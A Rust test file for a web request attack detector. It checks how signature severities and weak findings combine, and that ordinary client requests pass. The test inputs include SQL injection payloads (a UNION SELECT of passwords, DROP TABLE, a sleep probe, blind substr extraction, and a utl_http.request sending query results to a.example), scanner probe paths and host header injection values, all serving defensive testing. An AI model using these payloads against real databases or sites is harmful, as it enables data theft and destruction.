//! How far a finding may lift a request: what is of low severity, and what nobody has tried, does not suffice alone.

use detect::evidence::Explanation;
use detect::model::{FORMAT, Grams, Model, ModelFile};
use detect::signatures::{Severity, Signatures, packs};
use detect::{Detector, Header, Reader, Request};

use super::signature;

/// A signature for each way to be believed, with a text's sign that weighs `sign`.
fn detector(sign: f32) -> Detector {
    let all = [
        ("a.low", "low", "lowword", ""),
        ("a.less", "low", "lesser", ""),
        ("a.sure", "low", "surely", "decisive = true\n"),
        ("a.middle", "medium", "middling", ""),
        ("a.high", "high", "upper", ""),
        ("a.known", "high", "known", ""),
    ];
    let pack: String = all
        .iter()
        .map(|(id, severity, word, more)| {
            signature(id, &format!("needs = ['{word}']\nhits = ['{word}']\n{more}"))
                .replace("\"high\"", &format!("{severity:?}"))
                .replace("prior = 5.0", "prior = 12.0")
        })
        .collect();
    let signatures = Signatures::parse([("own.toml", pack.as_str())]).expect("a valid pack");
    let learnt = ["a.low", "a.less", "a.known"];
    let file = ModelFile {
        format: FORMAT,
        quiet: -6.0,
        bias: -4.0,
        evidence: 1.0,
        alone: 5.0,
        features: [("lexical.plain_words", 3.0), ("lexical.caret_tilde", sign)]
            .map(|(name, weight)| (name.to_owned(), weight))
            .into(),
        signatures: learnt.map(|id| (id.to_owned(), 0.0)).into(),
        grams: Grams::pack(&[]),
        bend: Vec::new(),
        report: serde_json::Value::Null,
    };
    let model = Model::from_file(&file, &signatures).expect("a valid file");
    Detector::new(signatures, model)
}

fn explain(detector: &Detector, request: &Request<'_>) -> Explanation {
    let found = detector.explain(&mut Reader::default(), request);
    assert!((found.sum() - found.llr).abs() < 1e-4, "the pieces add up: {found:?}");
    found
}

#[test]
fn what_is_light_is_evidence_and_suffices_only_beside_something_else() {
    let detector = detector(0.0);
    for (text, expected) in [
        ("lowword", Severity::Low),
        ("lowword+lesser", Severity::Low),
        ("lowword%5E", Severity::Low),
        ("surely", Severity::High),
        ("middling", Severity::Low),
        ("upper", Severity::Low),
        ("known", Severity::High),
        ("middling+lowword", Severity::High),
        ("middling+upper", Severity::High),
        ("lowword+known", Severity::High),
        ("lowword+%3Csvg%3E", Severity::High),
    ] {
        let uri = format!("/?q={text}");
        let found = explain(&detector, &Request { uri: uri.as_bytes(), ..Request::default() });
        assert_eq!(found.severity, Some(expected), "{text}: {found:?}");
        let held = found.evidence.iter().find(|piece| piece.id == "limit.evidence_only");
        assert_eq!(held.is_some(), expected == Severity::Low, "{text}: {found:?}");
        assert!(held.is_none_or(|piece| piece.weight < 0.0), "{text}: {found:?}");
    }
}

#[test]
fn nobody_hides_a_text_that_suffices_behind_what_is_light() {
    let detector = detector(60.0);
    for text in ["%5E", "lowword%5E", "lowword+lesser%5E"] {
        let uri = format!("/?q={text}");
        let found = explain(&detector, &Request { uri: uri.as_bytes(), ..Request::default() });
        assert_eq!(found.severity, Some(Severity::High), "{text}: {found:?}");
    }
}

#[test]
fn an_exception_for_what_is_heavy_leaves_what_is_light_as_evidence() {
    let mut detector = detector(0.0);
    let except = "[[except]]\nsignature = 'a.known'\nroute = '/'\nuntil = 9\nreason = 'a test'\n";
    let list = detect::signatures::Except::parse(except).expect("a valid exception");
    detector.exceptions = detect::signatures::Exceptions::new(list).expect("a valid exception");
    let request = Request { uri: b"/?q=lowword+known", ..Request::default() };
    for (now, suffices) in [(1, false), (10, true)] {
        let score = detector.score_at(&mut Reader::default(), &request, now);
        assert_eq!(score.llr >= detector.model.alone, suffices, "{now}: {score:?}");
    }
}

#[test]
fn what_ships_blocks_nobody_for_one_light_finding() {
    let detector = Detector::shipped(0.001);
    let host = |value: &'static str| Header { name: b"host", value: value.as_bytes() };
    let (path, agent, header) = (b"/".as_slice(), "Mozilla/5.0 (X11)", "shop.example");
    for (uri, agent, header) in [
        (b"/phpmyadmin/".as_slice(), agent, header),
        (b"/phpmyadmin/index.php?route=/sql&db=shop&table=orders&pos=0", agent, header),
        (b"/usr/share/phpmyadmin/", agent, header),
        (b"/adminer.php?server=db&username=shop", agent, header),
        (b"/go?to=/pma/", agent, header),
        (b"/backup.sql.zip", agent, header),
        (b"/config/database.yml", agent, header),
        (path, "Mozilla/5.0 zgrab/0.x", header),
        (path, "masscan/1.3", header),
        (path, agent, "a.example/x"),
        (path, agent, "a.example@b.example"),
        (path, agent, "{{.Host}}"),
    ] {
        let headers = [host(header)];
        let request = Request {
            method: b"GET",
            uri,
            agent: Some(agent.as_bytes()),
            headers: &headers,
            ..Request::default()
        };
        for mut reader in [Reader::default(), Reader::remembering()] {
            let llr = detector.score(&mut reader, &request).llr;
            assert!(llr >= detector.model.evidence && llr < detector.model.alone, "{request:?}");
        }
        assert_eq!(explain(&detector, &request).severity, Some(Severity::Low), "{request:?}");
    }
}

/// The explanation of `text` in a field of JSON.
fn in_json(detector: &Detector, text: &str) -> Explanation {
    let body = format!("{{\"q\":\"{text}\"}}");
    let headers = [Header { name: b"content-type", value: b"application/json" }];
    let request = Request {
        method: b"POST",
        uri: b"/q",
        headers: &headers,
        body: Some(body.as_bytes()),
        ..Request::default()
    };
    explain(detector, &request)
}

#[test]
fn a_whole_question_to_a_database_is_evidence_and_one_that_breaks_out_more() {
    let detector = Detector::shipped(0.001);
    for (text, expected) in [
        ("SELECT a, b FROM t WHERE c > 5 AND d = 'e' ORDER BY a", Severity::Low),
        ("select mean(a) from b where time >= now() - 6h group by time(1m)", Severity::Low),
        ("SELECT a FROM t UNION SELECT password FROM users", Severity::High),
        ("SELECT a FROM t; DROP TABLE users--", Severity::High),
        ("SELECT sleep(9)", Severity::High),
        (
            "select a from b where c='php://filter/convert.base64-encode/resource=index'",
            Severity::High,
        ),
        (
            "select utl_http.request('http://a.example/'||(select p from u)) from dual",
            Severity::High,
        ),
        ("select case when substr(password,1,1)='a' then 1 else 2 end from users", Severity::High),
        ("x' AND (SELECT a FROM t LIMIT 1)='b'-- ", Severity::High),
    ] {
        assert_eq!(in_json(&detector, text).severity, Some(expected), "{text}");
    }
}

#[test]
fn a_pack_says_of_each_signature_whether_a_plain_question_hits_as_well() {
    for (says, expected) in
        [("", Severity::High), ("asks = false", Severity::High), ("asks = true", Severity::Low)]
    {
        let own = format!("needs = ['order by a']\nhits = ['order by a']\n{says}");
        let own = signature("a.order", &own);
        let all = packs().iter().copied().chain([("own.toml", own.as_str())]);
        let signatures = Signatures::parse(all).expect("valid packs");
        let model = Model::shipped(&signatures);
        let detector = Detector::new(signatures, model);
        let found = in_json(&detector, "SELECT a, b FROM t WHERE c > 5 AND d = 'e' ORDER BY a");
        assert_eq!(found.severity, Some(expected), "{says}: {found:?}");
        assert!(found.evidence.iter().any(|piece| piece.id == "a.order"), "{says}: {found:?}");
    }
}

#[test]
fn what_ordinary_clients_of_known_products_ask_for_is_no_finding() {
    let detector = Detector::shipped(0.001);
    for uri in [
        "/rest/default/V1/guest-carts/rsQ0ZM16UnszHHsx/estimate-shipping-methods",
        "/nagios/cgi-bin/status.cgi?host=all&limit=0",
        "/_vti_bin/client.svc/ProcessQuery",
        "/Telerik.Web.UI.WebResource.axd?_TSM_HiddenField_=ctl00_RadScriptManager1_TSM&compress=1",
        "/upnp/control/WANIPConn1",
        "/search?q=mus%C3%A9e+d%27or+%26+co",
        "/acs?SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiIElEPSJhMSI%2BPC9zYW1scDpSZXNwb25zZT4%3D",
    ] {
        let request = Request { method: b"GET", uri: uri.as_bytes(), ..Request::default() };
        let found = explain(&detector, &request);
        assert_eq!(found.severity, None, "{uri}: {found:?}");
    }
}
